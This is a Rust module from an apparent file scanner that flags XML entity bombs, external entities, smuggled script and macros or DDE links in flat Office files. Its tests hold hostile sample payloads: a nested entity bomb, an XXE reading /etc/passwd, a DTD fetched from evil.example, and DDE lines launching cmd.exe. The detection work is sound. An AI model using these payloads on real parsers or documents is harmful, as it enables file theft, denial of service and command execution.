//! XML of any kind: entity bombs and entities that fetch from elsewhere, script smuggled into data, and the old flat forms
//! of Word and Excel that carry macros or DDE links.

use super::bytes::{contains_ignoring_case, cut, lossy};
use super::markup::{Token, attribute, local_name, tokens, unescape};
use super::office_ole::say_dde;
use super::report::Report;
use std::collections::HashMap;

const XML_BYTES_MAX: usize = 32 << 20;
const TOKENS_MAX: usize = 500_000;
/// Entities of one document that are looked at.
const ENTITIES_MAX: usize = 4_000;
/// One entity is read up to here, and all together.
const ENTITY_CHARS_MAX: usize = 8 << 10;
const NAME_BYTES_MAX: usize = 256;
const ENTITIES_BYTES_MAX: usize = 4 << 20;
/// Text that entities expand to beyond this is a bomb.
const EXPANDED_BYTES_MAX: u64 = 4 << 20;

pub fn inspect(data: &[u8], report: &mut dyn Report) {
    let text = lossy(data.get(..XML_BYTES_MAX.min(data.len())).unwrap_or_default());
    doctype(&text, report);
    let head = data.get(..4096.min(data.len())).unwrap_or_default();
    // `progid`: Word and Excel of 2003; the others name their own formats.
    if [&b"progid=\""[..], b"/2006/xmlpackage", b"<office:document"]
        .iter()
        .any(|sign| contains_ignoring_case(head, sign))
    {
        flat_office(&text, report);
    }
    script(&text, report);
}

/// Facts about the document type alone; SVG and parts of Office files share them.
/// Parts of Mozilla's programs that their extensions name.
fn is_browsers_own(target: &str) -> bool {
    target.starts_with("chrome://") || target.starts_with("resource://")
}

pub fn doctype(text: &str, report: &mut dyn Report) {
    let Some(Token::Doctype(doctype)) = tokens(text).take(64).find(|token| matches!(token, Token::Doctype(_))) else {
        return;
    };
    let entities = entities(doctype);
    if let Some(external) = entities.iter().find(|entity| entity.external && !is_browsers_own(&entity.value)) {
        report.fact("files/xml-external-entity", cut(&external.value, 120));
    }
    // A browser reads markup out of an entity as if it stood in the page.
    if let Some(script) = entities.iter().find(|entity| !entity.external && holds_script(&entity.value)) {
        report.fact("files/xml-script", cut(&script.value, 120));
    }
    let size = expanded(&entities).max(repeated(text, &entities));
    if size > EXPANDED_BYTES_MAX {
        report.fact("files/xml-bomb", &format!("entities that expand to {size} bytes or more"));
    }
}

fn holds_script(value: &str) -> bool {
    let plain = unescape(value).to_ascii_lowercase();
    plain.contains("<script") || plain.contains("javascript:") || plain.contains(" onload=")
}

struct Entity<'a> {
    name: &'a str,
    value: String,
    external: bool,
}

fn entities(doctype: &str) -> Vec<Entity<'_>> {
    let (mut out, mut held): (Vec<Entity<'_>>, usize) = (Vec::new(), 0);
    for (at, _) in doctype.match_indices("<!ENTITY").take(ENTITIES_MAX) {
        if held > ENTITIES_BYTES_MAX {
            break;
        }
        let body = cut(&doctype[at + 8..], ENTITY_CHARS_MAX).trim_start();
        let body = body.strip_prefix('%').unwrap_or(body).trim_start();
        let name_end = body.find(char::is_whitespace).unwrap_or(body.len());
        if name_end > NAME_BYTES_MAX {
            continue;
        }
        let (name, rest) = body.split_at(name_end);
        let rest = rest.trim_start();
        let end = rest.find('>').unwrap_or(rest.len());
        let named = rest.starts_with("SYSTEM") || rest.starts_with("PUBLIC");
        if named {
            let declaration = &rest[..end];
            // An unparsed entity (`NDATA`) is a picture's name, and never read as text. A system identifier without a
            // scheme that ends in `.ent` or `.dtd` is how DTDs are put together.
            let address = quoted_last(declaration);
            let lower = address.to_ascii_lowercase();
            let w3c = ["http://www.w3.org/", "https://www.w3.org/"].iter().any(|host| lower.starts_with(host));
            let part_of_dtd =
                [".ent", ".mod", ".dtd"].iter().any(|end| lower.ends_with(end)) && (w3c || !lower.contains(':'));
            out.push(Entity {
                name,
                value: address.to_owned(),
                external: !declaration.contains("NDATA") && !part_of_dtd,
            });
        } else {
            let value =
                rest.chars().next().filter(|c| matches!(c, '"' | '\'')).and_then(|quote| rest[1..].split(quote).next());
            held += value.map_or(0, str::len);
            out.push(Entity { name, value: value.unwrap_or_default().to_owned(), external: false });
        }
    }
    out
}

fn quoted_last(declaration: &str) -> &str {
    let mut parts = declaration.rsplit(['"', '\'']);
    parts.next();
    parts.next().unwrap_or_default()
}

/// Bytes of the largest entity when every reference in it is replaced, saturating; a loop counts as endless.
fn expanded(entities: &[Entity<'_>]) -> u64 {
    let mut sizes: HashMap<&str, u64> = HashMap::new();
    let names: HashMap<&str, usize> = entities.iter().enumerate().map(|(i, entity)| (entity.name, i)).collect();
    let mut largest = 0u64;
    // Honest documents define before use; a few rounds settle other orders, and a loop keeps growing until it saturates.
    for _ in 0..16 {
        for entity in entities {
            let mut size = entity.value.len() as u64;
            for reference in entity.value.split(['&', '%']).skip(1) {
                let name = reference.split(';').next().unwrap_or_default();
                if names.contains_key(name) {
                    size = size.saturating_add(sizes.get(name).copied().unwrap_or(0));
                }
            }
            largest = largest.max(size);
            sizes.insert(entity.name, size);
        }
        if largest > EXPANDED_BYTES_MAX {
            return largest;
        }
    }
    largest
}

/// Bytes of the longest entity, as often as the text calls it: a bomb without nesting.
fn repeated(text: &str, entities: &[Entity<'_>]) -> u64 {
    let Some(longest) =
        entities.iter().filter(|entity| entity.value.len() > 1_000).max_by_key(|entity| entity.value.len())
    else {
        return 0;
    };
    let calls = text.matches(&format!("&{};", longest.name)).count();
    (calls as u64).saturating_mul(longest.value.len() as u64)
}

fn script(text: &str, report: &mut dyn Report) {
    for (count, token) in tokens(text).take(TOKENS_MAX).enumerate() {
        if count % 4096 == 4095 && report.stop() {
            return;
        }
        let Token::Tag { name, attributes: raw, closes: false } = token else { continue };
        let prefix = name.split_once(':').map_or("", |(prefix, _)| prefix);
        // Only script in a namespace of pages or style sheets runs; `<script>` is also a word of others' data.
        let runs = matches!(prefix.to_ascii_lowercase().as_str(), "html" | "xhtml" | "svg" | "msxsl" | "ms")
            || raw.contains("www.w3.org/1999/xhtml")
            || raw.contains("www.w3.org/2000/svg");
        if runs && local_name(name).eq_ignore_ascii_case("script") {
            let rule =
                if prefix.eq_ignore_ascii_case("msxsl") { "files/xml-stylesheet-script" } else { "files/xml-script" };
            return report.fact(rule, name);
        }
    }
}

/// Word and Excel 2003 as one XML file.
fn flat_office(text: &str, report: &mut dyn Report) {
    let mut instruction = String::new();
    let mut all = tokens(text);
    let mut inside_instruction = false;
    for _ in 0..TOKENS_MAX {
        match all.next() {
            None => break,
            Some(Token::Tag { name, attributes: raw, closes }) => {
                let local = local_name(name);
                inside_instruction = local == "instrText" && !closes;
                if local == "wordDocument" && attribute(raw, "w:macrosPresent") == Some("yes")
                    || local == "binData" && raw.contains("editdata.mso")
                {
                    report.fact("files/office-macro", "flat Word document");
                }
                // A whole Word, Excel or OpenDocument file as one text.
                let flat_part = local == "part"
                    && attribute(raw, "pkg:name")
                        .is_some_and(|part| part.to_ascii_lowercase().ends_with("vbaproject.bin"));
                if flat_part || matches!(name, "ooo:module" | "script:module") && !closes {
                    report.fact("files/office-macro", "flat Office document");
                }
                if local == "fldSimple" {
                    instruction.push_str(&unescape(attribute(raw, "w:instr").unwrap_or_default()));
                }
                if let Some(formula) = attribute(raw, "ss:Formula").map(unescape)
                    && formula.contains('|')
                    && formula.contains('!')
                {
                    say_dde(&formula, report);
                }
            }
            Some(Token::Text(text)) if inside_instruction && instruction.len() < 100_000 => {
                instruction.push_str(&unescape(text))
            }
            Some(_) => {}
        }
    }
    say_field(&instruction, report);
    if let Some(at) = text.find("<SupBook>") {
        let body = text.get(at..).unwrap_or_default().split("</SupBook>").next().unwrap_or_default();
        let value = |tag: &str| {
            body.split(&format!("<{tag}>"))
                .nth(1)
                .and_then(|rest| rest.split('<').next())
                .unwrap_or_default()
                .to_owned()
        };
        if body.contains("<Dde") || !value("Topic").is_empty() && !value("Service").is_empty() {
            say_dde(&format!("{}|{}", value("Service"), value("Topic")), report);
        }
    }
}

/// A Word field's instruction, put together from its runs.
pub fn say_field(instruction: &str, report: &mut dyn Report) {
    let upper = instruction.to_ascii_uppercase();
    for (at, _) in upper.match_indices("DDE").take(3) {
        let alone = at == 0 || !upper.as_bytes().get(at - 1).is_some_and(u8::is_ascii_alphanumeric);
        let after = upper.get(at + 3..).unwrap_or_default();
        if alone && (after.starts_with("AUTO") || after.starts_with([' ', '"', '\\'])) {
            say_dde(instruction.get(at..).unwrap_or_default().trim(), report);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    fn check(text: &str, expect: &[&str]) {
        let mut seen = Seen::default();
        inspect(text.as_bytes(), &mut seen);
        assert_eq!(seen.rules(), expect, "{text}");
    }

    #[test]
    fn bombs_and_plain_entities() {
        let mut lol = String::from("<!DOCTYPE l [<!ENTITY a0 \"lollollol\">");
        for i in 1..10 {
            lol.push_str(&format!("<!ENTITY a{i} \"{}\">", format!("&a{};", i - 1).repeat(10)));
        }
        check(&format!("{lol}]><l>&a9;</l>"), &["files/xml-bomb"]);
        check("<!DOCTYPE l [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]><l>&a;</l>", &["files/xml-bomb"]);
        let long = format!("<!DOCTYPE l [<!ENTITY a \"{}\">]><l>{}</l>", "x".repeat(9_000), "&a;".repeat(1_000));
        check(&long, &["files/xml-bomb"]);
        check(&format!("<!DOCTYPE l [{}", "<!ENTITY".repeat(100_000)), &[]);
        check("<!DOCTYPE l [<!ENTITY nbsp \"&#160;\">]><l/>", &[]);
    }

    #[test]
    fn entities_from_elsewhere() {
        check("<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>", &["files/xml-external-entity"]);
        check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;]><l/>", &["files/xml-external-entity"]);
        check("<!DOCTYPE l [<!ENTITY x \"&#60;script>x&#60;/script>\">]><l>&x;</l>", &["files/xml-script"]);
        check(
            "<!DOCTYPE l [<!ENTITY % x PUBLIC '-//W3C//x' 'http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent'>%x;]><l/>",
            &[],
        );
        check("<!DOCTYPE l SYSTEM \"http://www.w3.org/x.dtd\"><l/>", &[]);
        check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'chrome://a/b.dtd'>%x;]><l/>", &[]);
        check("<!DOCTYPE l [<!ENTITY pic SYSTEM \"a.gif\" NDATA gif>]><l/>", &[]);
    }

    #[test]
    fn script_in_data() {
        check("<a><html:script xmlns:html='http://www.w3.org/1999/xhtml'>x</html:script></a>", &["files/xml-script"]);
        check("<a><script>not html</script></a>", &[]);
        check("<xsl:stylesheet><msxsl:script>x</msxsl:script></xsl:stylesheet>", &["files/xml-stylesheet-script"]);
    }

    #[test]
    fn flat_office_documents() {
        check(
            "<?mso-application progid=\"Word.Document\"?><w:wordDocument w:macrosPresent=\"yes\"/>",
            &["files/office-macro"],
        );
        check(
            "<?mso-application progid=\"Word.Document\"?><w><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w>",
            &["files/office-dde"],
        );
        check(
            "<?mso-application progid=\"Excel.Sheet\"?><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/>",
            &["files/office-dde"],
        );
        check("<?mso-application progid=\"Word.Document\"?><w:instrText>ADDEND 1</w:instrText>", &[]);
    }
}
